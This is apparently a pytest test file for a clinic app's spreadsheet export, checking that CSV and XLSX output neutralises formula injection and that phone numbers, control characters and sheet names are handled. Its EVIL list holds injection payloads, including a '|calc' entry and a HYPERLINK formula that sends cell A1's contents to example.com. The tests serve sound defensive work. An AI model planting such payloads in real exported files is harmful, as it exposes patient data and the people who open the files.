"""No cell of a file is a formula, whatever somebody typed; numbers stay numbers."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from phonenumber_field.phonenumber import to_python

from clinic.sheets import cell, csv_bytes, phone, plain, safe, sheet_name, xlsx_bytes

EVIL = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1", "＝1+1", "＋1", "－1",
    "＠SUM(1)", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "|calc", "%0A=1",
    "=HYPERLINK(\"https://example.com?\"&A1,\"x\")",
]  # fmt: skip
HARMLESS = ["O'Connor", "Anna-Lena", "a=b", "1+1", "Łukasz", "'quoted'", "", "٣"]


@pytest.mark.parametrize("text", EVIL)
def test_what_a_spreadsheet_would_work_out_is_marked_as_text(text):
    assert safe(text) == f"'{text}"
    assert plain(safe(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are(text):
    assert safe(text) == text
    assert plain(text) == text


@pytest.mark.parametrize("text", EVIL)
def test_both_kinds_of_file_hold_no_formula(text):
    rows = [[text, Decimal("-12.50"), -3, date(2027, 1, 11), None]]
    line = list(csv.reader(io.StringIO(csv_bytes(["a"], rows).decode("utf-8-sig"))))[1]
    sheet = load_workbook(io.BytesIO(xlsx_bytes([("Sheet", ["=A1"], rows)]))).active

    assert line[0][0] == "'"
    assert line[1:] == ["-12.50", "-3", "2027-01-11", ""]
    assert {one.data_type for row in sheet.iter_rows() for one in row} <= {"s", "n", "d"}
    assert sheet["A1"].value == "'=A1"
    assert sheet["A2"].value[0] == "'"
    assert (sheet["B2"].value, sheet["C2"].value) == (-12.5, -3)


@pytest.mark.parametrize(
    ("number", "expected"),
    [
        ("+14035550100", "(+1) 403-555-0100"),
        ("+442079460958", "(+44) 20 7946 0958"),
        ("+493012345678", "(+49) 30 12345678"),
    ],
)
def test_a_phone_number_can_be_read_and_is_no_sum(number, expected):
    stored = to_python(number)

    assert phone(stored) == cell(stored) == expected
    assert safe(expected) == expected
    assert to_python(expected) == stored


def test_signs_that_no_file_can_hold_are_left_out():
    assert cell("a\x00b\x0bc") == "abc"
    assert (
        load_workbook(io.BytesIO(xlsx_bytes([("S", ["x"], [["a\x07"]])]))).active["A2"].value == "a"
    )


@pytest.mark.parametrize(
    ("name", "expected"), [("a/b:c[1]", "a b c 1"), ("'", "Sheet"), ("x" * 40, "x" * 31)]
)
def test_a_sheet_has_a_name_that_sheets_may_have(name, expected):
    assert sheet_name(name) == expected
